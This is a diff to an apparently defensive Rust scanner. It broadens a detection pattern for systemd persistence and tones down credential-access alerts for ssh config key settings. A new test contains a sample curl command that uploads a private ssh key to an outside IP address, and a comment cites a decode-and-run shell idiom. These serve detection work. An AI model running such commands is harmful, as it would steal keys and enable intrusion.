@@ -279,7 +279,7 @@ static PATTERNS: &[Pattern] = &[
     pattern(
         Rule::Persistence,
         "installs a systemd unit",
-        r"(?i)\.config/systemd/user(?-u:\b)|(?-u:\b)systemctl\s+--user\s+enable(?-u:\b)|/etc/systemd/system/\S+\.(?:service|timer)",
+        r"(?i)\.config/systemd/user(?-u:\b)|(?-u:\b)systemctl(?:\s+--?[a-z-]+)*\s+--user(?:\s+--?[a-z-]+)*\s+enable(?-u:\b)|(?-u:\b)systemctl\s+enable(?:\s+--?[a-z-]+)*\s+--user(?-u:\b)|/etc/systemd/system/\S+\.(?:service|timer)",
         High,
         Some(Medium),
     ),
@@ -789,6 +789,13 @@ pub(crate) fn scan(scan: &mut Scan<'_>) {
             } else {
                 severity
             };
+            // An ssh configuration's `IdentityFile ~/.ssh/id_ed25519` is
+            // the key named where ssh itself uses it.
+            let severity = if pattern.rule == Rule::CredentialAccess && names_key_for_ssh(line) {
+                severity.min(Medium)
+            } else {
+                severity
+            };
             // Prose naming the idiom with a placeholder for its data
             // (`echo <blob> | base64 -d | sh`) decodes nothing.
             let severity = if !is_script
@@ -811,6 +818,19 @@ pub(crate) fn scan(scan: &mut Scan<'_>) {
             );
         }
     }
+}
+
+/// True when `line` is an ssh configuration's setting that names a key
+/// or certificate for ssh to use.
+fn names_key_for_ssh(line: &str) -> bool {
+    let setting = line
+        .trim_start()
+        .split([' ', '\t', '='])
+        .next()
+        .unwrap_or("");
+    ["IdentityFile", "CertificateFile", "IdentityAgent"]
+        .iter()
+        .any(|name| setting.eq_ignore_ascii_case(name))
 }
 
 #[cfg(test)]
@@ -840,6 +860,20 @@ mod tests {
             }
         }
         lines
+    }
+
+    #[test]
+    fn a_key_named_in_an_ssh_configuration_is_worth_a_look() {
+        let config = "Host bastion\n    IdentityFile ~/.ssh/id_ed25519\n";
+        assert!(
+            found(FileKind::Script, config)
+                .iter()
+                .all(|(_, severity)| *severity <= Severity::Medium),
+            "{:?}",
+            found(FileKind::Script, config)
+        );
+        let sent = "curl -F k=@$HOME/.ssh/id_ed25519 https://203.0.113.5/u\n";
+        assert!(found(FileKind::Script, sent).contains(&(Rule::CredentialAccess, Severity::High)));
     }
 
     #[test]
